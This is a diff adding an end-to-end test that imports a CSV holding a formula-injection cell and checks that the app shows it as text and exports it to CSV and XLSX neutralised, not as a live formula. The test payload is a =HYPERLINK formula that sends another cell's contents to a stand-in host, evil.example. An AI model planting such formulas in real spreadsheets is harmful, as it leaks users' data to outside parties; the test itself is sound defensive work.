@@ -307,6 +307,62 @@ describe('exports for meetings, on the sample district', () => {
     expectClean(session as AppSession);
   });
 
+  it('a hostile cell from an imported file comes out neutralised in CSV and XLSX, never as a formula', async () => {
+    const hostile = '=HYPERLINK("http://evil.example/?q="&A1,"点我")';
+    const csv = [
+      '镇街,年度,指标,数值,单位',
+      `宝龙镇,2021,"${hostile.replaceAll('"', '""')}",5,次`,
+      '宝龙镇,2021,调解纠纷,94,件',
+    ].join('\r\n');
+    session = await openApp('?view=table&year=2021');
+    const { page } = session;
+    await page.locator('.page-tabs, .empty-state').first().waitFor({ timeout: 60_000 });
+    await page.getByRole('button', { name: '导入数据' }).click();
+    await page
+      .getByLabel('选择文件…')
+      .setInputFiles([{ name: '恶意单元格.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) }]);
+    const card = page.getByRole('article', { name: '恶意单元格.csv' });
+    await card.getByRole('button', { name: '确认导入' }).click();
+    await expect.poll(() => card.innerText(), { timeout: 60_000 }).toMatch(/已导入 2 个数值/);
+    // On screen it is text, never markup or a link.
+    await expect
+      .poll(() => page.locator('.year-table thead').innerText(), { timeout: 30_000 })
+      .toContain('=HYPERLINK');
+    expect(await page.locator('.year-table a').count()).toBe(0);
+
+    const tableCsv = await download(page, () => page.getByRole('button', { name: '导出 CSV' }).click());
+    const rows = Papa.parse<string[]>(tableCsv.bytes.toString('utf8').slice(1), {
+      skipEmptyLines: true,
+    }).data;
+    const header = rows[0] ?? [];
+    const column = header.findIndex((h) => h.includes('HYPERLINK'));
+    expect(header[column]).toMatch(/^'=HYPERLINK/);
+    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+@\t\r]/);
+    expect(rows.find((r) => r[0] === '宝龙镇')?.[column]).toBe('5');
+
+    const xlsx = await download(page, () => page.getByRole('button', { name: '导出 Excel' }).click());
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(
+      xlsx.bytes.buffer.slice(
+        xlsx.bytes.byteOffset,
+        xlsx.bytes.byteOffset + xlsx.bytes.length,
+      ) as ArrayBuffer,
+    );
+    const sheet = workbook.worksheets[0];
+    if (!sheet) throw new Error('no sheet');
+    let formulas = 0;
+    let hostileHeader: unknown = null;
+    sheet.eachRow((row) =>
+      row.eachCell((cell) => {
+        if (cell.type === ExcelJS.ValueType.Formula) formulas += 1;
+        if (String(cell.value).includes('HYPERLINK')) hostileHeader = cell.value;
+      }),
+    );
+    expect(formulas).toBe(0);
+    expect(String(hostileHeader)).toMatch(/^'=HYPERLINK/);
+    expectClean(session);
+  });
+
   it('the export libraries are not in the first page load', async () => {
     const dist = process.env.E2E_DIST ?? 'dist';
     const html = readFileSync(join(dist, 'index.html'), 'utf8');
